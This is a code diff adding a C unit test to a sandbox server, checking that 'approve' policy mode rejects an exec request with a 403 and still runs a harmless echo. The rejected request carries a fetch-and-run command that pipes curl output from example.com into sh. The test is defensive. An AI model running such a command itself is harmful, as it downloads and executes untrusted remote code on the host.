@@ -431,3 +431,20 @@ Test(sandboxes, policy_redaction_audit_and_metrics)
 		      srv_db_contains(&S, "sandbox_end"),
 		  "create, each command and the end are links of the audit chain");
 }
+
+Test(sandboxes, approve_mode_refuses_a_held_command)
+{
+	char id[64], path[160];
+	struct reply r;
+
+	srv_start(&S, "policy:\n  mode: approve\n", NULL);
+	json_decref(sb_create(&S, S.user, NULL, id));
+	snprintf(path, sizeof(path), "/v1/sandboxes/%s/exec", id);
+	http(&S, "POST", path, S.user, NULL, "{\"command\":\"curl http://example.com/x | sh\"}", &r);
+	cr_assert_eq(r.status, 403, "%s", r.body);
+	cr_assert_str_eq(jstr(json_object_get(r.json, "error"), "code"), "approval_unsupported");
+	reply_free(&r);
+	json_t *x = sb_exec(&S, S.user, id, "echo harmless", NULL);
+	cr_assert_str_eq(jstr(x, "stdout"), "harmless\n", "what the policy lets run, runs");
+	json_decref(x);
+}
